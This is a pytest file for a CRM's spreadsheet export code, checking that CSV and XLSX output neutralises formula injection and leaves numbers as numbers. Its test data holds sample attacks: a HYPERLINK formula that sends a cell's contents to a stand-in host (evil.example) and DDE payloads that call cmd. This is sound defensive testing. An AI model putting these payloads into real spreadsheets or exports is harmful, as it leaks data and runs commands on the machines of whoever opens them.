"""crm.spreadsheets.writing, the one way every export writes a cell: text a spreadsheet would
evaluate comes out inert (CSV: a leading apostrophe; XLSX: the same, in a string cell, never a
formula), and numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from crm.spreadsheets.writing import cell_inert, csv_bytes, xlsx_bytes

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"点击查看")'
ATTACKS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_a_spreadsheet_would_evaluate_gets_an_apostrophe(text):
    assert cell_inert(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        ("张伟", "张伟"),
        ("a=b", "a=b"),  # only a leading sign is evaluated
        (-50, -50),
        (12.5, 12.5),
        (Decimal("-1.50"), Decimal("-1.50")),
        # Text that is nothing but a number is read as that number: no formula in it to run.
        ("-12.5", "-12.5"),
        ("-3.2%", "-3.2%"),
        ("+8613800000001", "+8613800000001"),
    ],
)
def test_other_values_are_left_as_they_are(value, expected):
    assert cell_inert(value) == expected
    assert type(cell_inert(value)) is type(expected)


def test_csv_cells_start_with_an_apostrophe_and_numbers_stay_numbers():
    content = csv_bytes([["姓名", "积分调整"], [HYPERLINK, -50], ["\t=1+1", 12]])

    assert content.startswith("\ufeff".encode())  # Excel reads UTF-8 only with the byte order mark
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[1] == ["'" + HYPERLINK, "-50"]
    assert rows[2] == ["'\t=1+1", "12"]


def test_xlsx_text_is_a_string_cell_never_a_formula_and_numbers_are_numbers():
    content = xlsx_bytes(
        title="staff", rows=[["导购", "积分调整", "金额"], [HYPERLINK, -50, Decimal("12.50")], ["#N/A", 1, 2.5]]
    )

    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    name = sheet["A2"]
    assert name.data_type != "f" and name.data_type == "s"
    assert name.value == "'" + HYPERLINK
    assert (sheet["B2"].data_type, sheet["B2"].value) == ("n", -50)
    assert (sheet["C2"].data_type, sheet["C2"].value) == ("n", 12.5)
    assert (sheet["A3"].data_type, sheet["A3"].value) == ("s", "#N/A")  # text, not an error cell


def test_xlsx_drops_control_characters_instead_of_failing_the_export():
    content = xlsx_bytes(title="members", rows=[["李\x07娜"]])
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None and sheet["A1"].value == "李娜"
